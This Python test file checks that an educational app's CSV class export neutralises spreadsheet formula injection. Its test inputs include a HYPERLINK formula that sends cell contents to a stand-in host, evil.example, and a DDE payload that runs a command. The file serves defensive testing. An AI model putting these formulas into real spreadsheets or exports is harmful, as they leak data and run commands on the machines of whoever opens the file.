"""A trainee controls their home and what they type: none of it may be turned against the class (issue "A class
that cannot be turned against itself", items 6, 7 and 15).  Each test is named after the finding; each failed on
the code before its fix (c8663e6)."""
import csv
import io

from exercises.classview import class_rows, rows_csv
from exercises.progress import Attempt

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\tleading tab", "\rleading CR")


# -- item 7: CSV export ----------------------------------------------------------------------------------------
def test_csv_export_writes_formulas_as_typed_hyperlink_and_at_sum_are_neutralised():
    attempts = {}
    for i, f in enumerate(FORMULAS):
        attempts[f] = [Attempt(f"{i:032x}", f, f, 1, "p", f, False, f, "check", "2026-12-02T10:00:00")]
    text = rows_csv(class_rows(attempts))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    trainees = {r[0] for r in rows[1:]}
    assert trainees == {"'" + f for f in FORMULAS}  # kept, as text: the educator still reads what was typed


def test_csv_export_leaves_numbers_and_plain_text_as_they_are():
    a = Attempt("1" * 32, "ana", "dilution", 3, "diluent", "glucose", False, "glucose", "check", "2026-12-02T10:00:00")
    rows = list(csv.reader(io.StringIO(rows_csv(class_rows({"ana": [a]})))))
    assert rows[1][:7] == ["ana", "dilution", "1", "0", "0", "2026-12-02T10:00:00", "glucose ×1"]
